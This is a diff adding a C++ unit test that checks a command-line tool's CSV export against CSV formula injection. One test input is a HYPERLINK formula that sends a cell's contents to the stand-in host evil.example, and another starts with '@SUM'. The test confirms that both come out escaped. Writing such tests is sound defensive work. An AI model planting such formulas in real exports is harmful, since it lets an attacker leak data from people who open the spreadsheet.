@@ -103,6 +103,34 @@ TEST_F(CliExport, WritesCsv)
     expectFiles({"seed004.csv"});
 }
 
+// Tried as a new user would: a scenario whose option label is a HYPERLINK formula and
+// whose name starts with "@" must not reach a spreadsheet as live formulas.
+TEST_F(CliExport, CsvNeutralisesFormulaTextFromTheScenario)
+{
+    std::string scenario = readFile(kSeed004);
+    const auto replace = [&](const std::string &from, const std::string &to) {
+        const std::size_t at = scenario.find(from);
+        ASSERT_NE(at, std::string::npos) << from;
+        scenario.replace(at, from.size(), to);
+    };
+    replace("\"name\": \"Seed 004:", "\"name\": \"@SUM(1+1) Seed 004:");
+    replace("\"label\": \"Trainium 3 per NeuronCore",
+            "\"label\": \"=HYPERLINK(\\\"http://evil.example/\\\"&A1,\\\"click\\\") Trainium 3");
+    const fs::path out = m_dir / "results.csv";
+    const ProcessResult result = runCli({"export", "-", "-o", out.string()}, scenario);
+    ASSERT_EQ(result.exitCode, 0) << result.err;
+    const std::string csv = readFile(out);
+    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\") Trainium 3"),
+              std::string::npos)
+        << csv;
+    for (const char trigger : {'=', '+', '@'}) {
+        EXPECT_EQ(csv.find(std::string(",") + trigger), std::string::npos) << trigger;
+        EXPECT_EQ(csv.find(std::string("\n") + trigger), std::string::npos) << trigger;
+    }
+    // Negative figures are numbers and stay so.
+    EXPECT_EQ(csv.find(",\"'-"), std::string::npos);
+}
+
 TEST_F(CliExport, WritesXlsxWithFormulasFromStandardInput)
 {
     const fs::path out = m_dir / "seed004.xlsx";
